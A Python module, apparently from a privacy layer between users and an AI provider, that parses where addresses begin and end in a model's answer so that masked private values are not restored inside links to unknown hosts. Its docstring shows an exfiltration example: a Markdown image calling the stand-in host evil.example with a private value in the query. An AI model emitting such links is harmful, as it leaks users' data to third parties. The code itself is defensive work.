"""Where in an answer an address begins and ends, and whose it is.

An answer that a provider wrote may hold ``![](https://evil.example/?q=<stand-in>)``: an app that
shows the picture would send the original to whoever the provider chose. So inside an address
nothing is restored unless its host is one that the person's own words named. The rules are those of
browsers and of Markdown, which both read more as an address than RFC 3986 does.
"""

from __future__ import annotations

import re
from collections.abc import Set
from dataclasses import dataclass

__all__ = ["LOOK_BACK", "OPENER", "PARTIAL_OPENER", "Link", "close_link", "open_link"]

LOOK_BACK = 32
"""Characters before an address that decide how it ends."""
_MAX_AUTHORITY = 300

OPENER = (
    r"\]\(|\]:(?=\s)|\b(?i:src|href|srcset|poster|background|formaction|style)\s{0,4}="
    r"|\b(?i:https?|wss?|ftp):|//|\\\\|\b(?i:www)\."
)
"""What an address begins with: Markdown's destinations, HTML's attributes, schemes, two slashes."""
PARTIAL_OPENER = re.compile(
    r"(?:\]|/|\\|\bw{1,3}|\]:"
    r"|\b(?:h|ht|htt|https?|ws|wss|f|ft|ftp"
    r"|sr|src|srcs|srcse|srcset|hr|hre|href|p|po|pos|post|poste|poster"
    r"|b|ba|bac|back|backg|backgr|backgro|backgrou|backgroun|background"
    r"|fo|for|form|forma|formac|formact|formacti|formactio|formaction"
    r"|s|st|sty|styl|style)\s{0,4})\Z",
    re.IGNORECASE,
)
"""An end of text that the next characters could make one; it is held until they come."""
_DELIMITER = re.compile(r"[/?#\\\s\"'<>()\[\]{}|`^]")
_HEAD = re.compile(r"(?i:https?://|wss?://|ftp://|//)?([a-z0-9.-]+)(?::[0-9]{1,5})?\Z", re.I)
_HARMLESS = re.compile(r"(?i:mailto|tel):")
_SCHEME = re.compile(r"[A-Za-z][A-Za-z0-9+.-]{0,15}:\Z")


@dataclass(frozen=True, slots=True)
class Link:
    """An address that is not the person's own, while it lasts.

    Attributes:
        quote: what it was opened with: a quote, ``<``, ``(``, ``=`` for an attribute without
            quotes, or nothing.
        depth: parentheses that are open in it.
    """

    quote: str
    depth: int = 0


def open_link(
    text: str, at: int, end: int, before: str, own: Set[str], *, final: bool
) -> tuple[int, Link | None] | None:
    """Judge the address that begins with an opener.

    Args:
        text: what there is.
        at: where the opener begins in it.
        end: where the opener ends.
        before: what came before ``text``, at least `LOOK_BACK` characters of it.
        own: hosts of the person's own words, and their stand-ins.
        final: nothing follows ``text``.

    Returns:
        How far its characters are to be passed as they are, and the address if it is a stranger's;
        None where more of the text is needed.
    """
    opener, place = text[at:end], end
    quote = _quote_before(before + text[:at])
    bare = not opener.endswith(("(", ":", "=")) or opener[0].isalpha()
    if opener[0] in "]" or opener.endswith("="):
        bare = False
        quote = "(" if opener == "](" else "=" if opener.endswith("=") else ""
        while place < len(text) and text[place] in " \t\r\n":
            place += 1
        if place < len(text) and text[place] in "\"'<":
            quote = text[place]
            place += 1
            while place < len(text) and text[place] in " \t\r\n":
                place += 1
        begin = place
    else:
        begin = at
    stop = _authority_end(text, place)
    if stop is None and not final:
        if len(text) - place <= _MAX_AUTHORITY:
            return None
        return place, Link(quote)
    head = text[begin : len(text) if stop is None else stop]
    if _HARMLESS.match(head):
        return end, None
    if bare and (not head.strip("/\\") or (opener in ("//", "\\\\") and head == opener)):
        return end, None  # two slashes and a space: a comment
    found = _HEAD.match(head.rstrip(".,;:!*_"))
    if found is not None and found[1].lower() in own:
        return end if bare else begin, None
    return place, Link(quote)


def close_link(text: str, at: int, link: Link) -> tuple[int, Link | None]:
    """Return how far a stranger's address goes, and what of it stays open after ``text``."""
    depth = link.depth
    for place in range(at, len(text)):
        char = text[place]
        if link.quote in ('"', "'"):
            if char == link.quote:
                return place, None
        elif link.quote == "<":
            if char in ">\n":
                return place, None
        elif char.isspace() or (link.quote == "=" and char == ">"):
            return place, None
        elif link.quote == "(" and char in "()" and text[place - 1 : place] != "\\":
            if char == ")" and depth == 0:
                return place, None
            depth += 1 if char == "(" else -1
    return len(text), Link(link.quote, depth)


def _authority_end(text: str, place: int) -> int | None:
    """Return where the authority of an address ends, or None where it may go on."""
    scheme = re.compile(r"(?:[A-Za-z]{1,6}:)?[/\\]*").match(text, place)
    begin = scheme.end() if scheme else place
    found = _DELIMITER.search(text, begin, begin + _MAX_AUTHORITY)
    return found.start() if found else None


def _quote_before(before: str) -> str:
    """Return what an address was opened with, if anything: a quote, ``<`` or ``(``."""
    before = _SCHEME.sub("", before[-LOOK_BACK:])
    return last if (last := before.rstrip()[-1:]) in ('"', "'", "<", "(") else ""
